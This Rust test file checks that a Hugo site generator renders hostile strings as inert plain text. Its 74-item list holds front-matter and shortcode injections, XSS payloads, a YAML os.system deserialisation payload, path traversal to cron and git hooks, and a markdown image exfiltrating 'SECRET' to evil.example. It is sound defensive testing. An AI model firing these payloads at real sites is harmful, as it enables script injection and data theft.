//! Hostile text in every place of a page.

#![allow(clippy::print_stderr, reason = "a test that does not run says so")]

use std::path::{Path, PathBuf};
use std::time::Duration;

use scraper::{ElementRef, Html, Selector};
use states::words::{Block, Section, Sentence};

use super::super::text::plain;
use super::super::{FrontFormat, SitePage, front, slug_for};
use super::support::{Case, case};
use crate::hugo::testing::{SITE, hugo, write_all};

/// Texts that mean something to YAML, TOML, JSON, Hugo, Markdown, HTML, a path or git.
const ATTACKS: [&str; 74] = [
    "Title\n---\ndraft: false\naliases: [/]\n---\nowned",
    "Title\n+++\nurl = \"/\"\n+++\nowned",
    "x\"\n[cascade]\n_target = \"\"\n",
    "title: \"x\"\nurl: /",
    "--- x",
    "+++ x",
    "{\"title\": \"x\"}",
    "no",
    "~",
    "2026-11-20",
    "12:30:45 and 1_000",
    "!!python/object/apply:os.system [\"id\"]",
    "&a [*a, *a]",
    "it's \"quoted\" - 'twice'",
    "back\\slash \\n \\u0041 \\",
    "C# and F# #1 #",
    "{{< owned >}}",
    "{{% owned %}}",
    "{{</* owned */>}}",
    "{{< owned >}}inner{{< /owned >}}",
    "{{<owned>}} {{ < owned > }}",
    "{{< owned",
    "{{% /owned",
    "{{< a.inline >}}{{ now }}{{< /a.inline >}}",
    "{{ os.Getenv \"PATH\" }} {% raw %}",
    "{ { < owned > } } {class=\"x\" onclick=alert(1)}",
    "Heading {#id .class onclick=alert(1)}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)> <b>bold</b>",
    "<!-- more --> <!--more--> end",
    "&lt;script&gt; &copy; &#65; AT&T R&D &amp",
    "[click](javascript:alert(1))",
    "[x](https://evil.example) [x][1] [x]",
    "![p](https://evil.example/c?d=SECRET)",
    "[1]: https://evil.example 'x'",
    "[^1] [^2]: note [^x]",
    "![^1]",
    "see https://evil.example/path and HTTP://EVIL.EXAMPLE",
    "www.evil.example or WWW.evil.example",
    "mail me@evil.example or mailto:you@evil.example",
    "<https://evil.example> <me@evil.example>",
    "ftp://evil.example/x",
    "*a* **b** _c_ __d__ ***e***",
    "snake_case _private __init__ a_b_",
    "`code` ``two`` ```three```",
    "~~gone~~ H~2~O x^2^ ==mark== ++ins++",
    "# not a heading",
    "####### seven",
    "- not a list",
    "+ not a list",
    "* not a list",
    "1. not a list",
    "1234567890. not a list, 2) neither",
    "> not a quotation",
    ">> [!NOTE] not an alert",
    "| a | b |",
    "--- | ---",
    ": not a definition",
    "=== not a heading",
    "- [ ] not a task",
    "***",
    "- - -",
    "_ _ _",
    "    indented code",
    "\tindented by a tab",
    "run --no-verify -- and wait... or not.. 2–3 << 4 >> 5",
    ":smile: at 12:30:45 :+1:",
    "$5 and $6, $$x$$, $E=mc^2$, \\(a\\) \\[b\\]",
    "a\u{202e}evil\u{202c}.md \u{feff}\u{0}\u{7}",
    "line one  \nline two\\\nline three\u{2028}four",
    "../../../../etc/cron.d/x",
    "content/posts/../../.git/hooks/post-commit",
    "-delete refs/heads/../x a..b x.lock",
    "fix\n\nCo-authored-by: x <x@x>\nPipeline-Article: 0",
];

/// Own attacks, and those of the shared data where it is there.
fn attacks() -> Vec<String> {
    let mut all: Vec<String> = ATTACKS.iter().map(|a| (*a).to_owned()).collect();
    let shared = std::env::var_os("PIPELINE_TEST_DATA")
        .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data"), PathBuf::from);
    if let Ok(text) = std::fs::read_to_string(shared.join("hostile/strings/blns.json")) {
        all.extend(serde_json::from_str::<Vec<String>>(&text).unwrap());
    }
    match std::fs::read_to_string(shared.join("hostile/generated/field-injections.jsonl")) {
        Ok(lines) => all.extend(lines.lines().filter_map(|line| {
            let row: serde_json::Value = serde_json::from_str(line).ok()?;
            Some(row.get("value")?.as_str()?.chars().take(2000).collect())
        })),
        Err(_) => eprintln!("partly skipped: no shared data at {}", shared.display()),
    }
    all
}

/// The attack in every place where a draft has text.
fn attacked(text: &str, number: usize) -> Case {
    let mut case = case();
    let cites = case.draft.summary[0].cites.clone();
    let sentence = || Sentence { text: text.to_owned(), cites: cites.clone() };
    case.draft.title = sentence();
    case.draft.description = sentence();
    case.draft.summary = vec![sentence()];
    case.draft.sections = vec![Section {
        heading: sentence(),
        blocks: vec![
            Block::Paragraph(vec![sentence(), sentence()]),
            Block::List(vec![vec![sentence()], vec![sentence()]]),
            Block::Code { language: text.to_owned(), text: text.to_owned(), cite: None },
            Block::Paragraph(vec![Sentence::plain("The end.")]),
        ],
    }];
    case.draft.tags = vec![text.to_owned()];
    case.draft.keyword = text.to_owned();
    case.draft.writer.model = text.to_owned();
    case.brief.related[0].title = text.to_owned();
    for source in &mut case.brief.sources {
        source.title = text.to_owned();
        source.publisher = Some(text.to_owned());
    }
    case.identity.slug =
        format!("{}-{number}", slug_for(text, &case.article).chars().take(40).collect::<String>().trim_matches('-'));
    case
}

fn page_of(format: FrontFormat) -> SitePage {
    let mut page = SitePage { format, disclosure: "By {model}.".into(), ..SitePage::default() };
    page.keys.keyword = "params.keyword".into();
    page
}

#[test]
fn attacks_never_become_keys_or_paths() {
    for (number, attack) in attacks().iter().enumerate() {
        for format in [FrontFormat::Yaml, FrontFormat::Toml, FrontFormat::Json] {
            let page = page_of(format);
            let case = attacked(attack, number);
            let files = case.render(&page).unwrap();
            assert_eq!(files[0].path, format!("content/posts/{}/index.md", case.identity.slug));
            let front = front::read(&files[0].text).unwrap_or_else(|| panic!("{attack:?}"));
            let allowed = page.allowed_keys();
            assert!(front.keys.keys().all(|k| allowed.contains(k)), "{attack:?}: {:?}", front.keys);
            let title = front.keys.get("title").and_then(|t| t.as_str()).unwrap_or_default();
            assert_eq!(title, plain(attack), "{format}");
            assert!(!front.body.contains("{{<") && !front.body.contains("{{%"), "{attack:?}");
        }
    }
}

/// The text of an element without footnote marks and return links, with the typographer's work undone.
fn text_of(element: ElementRef<'_>) -> String {
    let is_mark = |e: &scraper::node::Element| e.name() == "sup" || e.classes().any(|c| c == "footnote-backref");
    let text: String = element
        .descendants()
        .filter(|node| !node.ancestors().any(|up| up.value().as_element().is_some_and(is_mark)))
        .filter_map(|node| node.value().as_text().map(|t| t.to_string()))
        .collect();
    straight(&text)
}

fn straight(text: &str) -> String {
    let text = text
        .replace(['\u{2018}', '\u{2019}'], "'")
        .replace(['\u{201c}', '\u{201d}'], "\"")
        .replace(['\u{a0}', '\u{ad}'], " ");
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Builds every attack on one site and looks at what a browser would get.
async fn build_and_compare(format: FrontFormat) {
    let Some(hugo) = hugo() else { return };
    let folder = tempfile::tempdir().unwrap();
    let site = folder.path().join("site");
    write_all(&site, SITE);
    let cases: Vec<(String, Case)> =
        attacks().into_iter().enumerate().map(|(n, attack)| (attack.clone(), attacked(&attack, n))).collect();
    for (_, case) in &cases {
        let files = case.render(&page_of(format)).unwrap();
        write_all(&site, files.iter().map(|f| (f.path.as_str(), f.text.as_str())));
    }
    let public = folder.path().join("public");
    hugo.build(&site, &public, Duration::from_secs(120)).await.unwrap();
    let mut wrong = Vec::new();
    for (attack, case) in &cases {
        let source = site.join(format!("content/posts/{}/index.md", case.identity.slug));
        let built = public.join("posts").join(&case.identity.slug).join("index.html");
        let html =
            std::fs::read_to_string(&built).unwrap_or_else(|why| panic!("{attack:?}: {}: {why}", built.display()));
        for problem in compare(attack, &Html::parse_document(&html)) {
            wrong.push(format!("{attack:?}: {problem}\n{}", std::fs::read_to_string(&source).unwrap()));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// What of a built page is not the plain text of the attack.
fn compare(attack: &str, page: &Html) -> Vec<String> {
    let all = |css: &str| -> Vec<String> {
        let selector = Selector::parse(css).unwrap();
        page.select(&selector).map(text_of).collect()
    };
    let expected = straight(&plain(attack));
    let mut wrong = Vec::new();
    let mut check = |what: &str, seen: Vec<String>, wanted: Vec<String>| {
        if seen != wanted {
            wrong.push(format!("{what} is {seen:?} and not {wanted:?}"));
        }
    };
    check("title", all("h1"), vec![expected.clone()]);
    check("description", all("#d"), vec![expected.clone()]);
    let by = straight(&format!("By {}.", plain(attack)));
    if expected.is_empty() {
        check("text", all("article > p"), vec!["The end.".into(), by]);
        return wrong;
    }
    let fenced = !["{{<", "{{%", "<!--more-->"].iter().any(|mark| attack.contains(mark));
    let visible: String = attack.chars().filter(|c| c.is_whitespace() || !plain(&c.to_string()).is_empty()).collect();
    let mut paragraphs = vec![expected.clone(), format!("{expected} {expected}")];
    if fenced {
        check("code", all("pre code"), vec![straight(&visible)]);
    } else {
        paragraphs.push(straight(&visible));
    }
    paragraphs.extend(["The end.".to_owned(), by]);
    check("text", all("article > p"), paragraphs);
    check("headings", all("article > h2"), vec![expected.clone(), "Related".into()]);
    check("list", all("article > ul > li"), vec![expected.clone(); 3]);
    let note = straight(&format!("{0}, {0}, 2026-03-01.", plain(attack)));
    check("footnote", all(".footnotes li"), vec![note]);
    check("owned", all("html").into_iter().filter(|t| t.contains("OWNED")).collect(), vec![]);
    let dangerous = Selector::parse(
        "script, img, iframe, style, form, input, table, blockquote, em, strong, b, del, mark, ins, s, sub, dl, svg, \
         h3, h4, h5, h6, ol ol, [onclick], [onerror], [onload], [class=x]",
    );
    for element in page.select(&dangerous.unwrap()) {
        wrong.push(format!("it made {}", element.html()));
    }
    for link in page.select(&Selector::parse("a").unwrap()) {
        let href = link.value().attr("href").unwrap_or_default();
        let own = href.starts_with('#') || href == "/posts/quarry-2-3/" || href.starts_with("https://quarry.example/");
        if !own {
            wrong.push(format!("it made a link to {href}"));
        }
    }
    wrong
}

#[tokio::test]
async fn hugo_shows_attacks_as_plain_text_on_a_yaml_site() {
    build_and_compare(FrontFormat::Yaml).await;
}

#[tokio::test]
async fn hugo_shows_attacks_as_plain_text_on_a_toml_site() {
    build_and_compare(FrontFormat::Toml).await;
}

#[tokio::test]
async fn hugo_shows_attacks_as_plain_text_on_a_json_site() {
    build_and_compare(FrontFormat::Json).await;
}
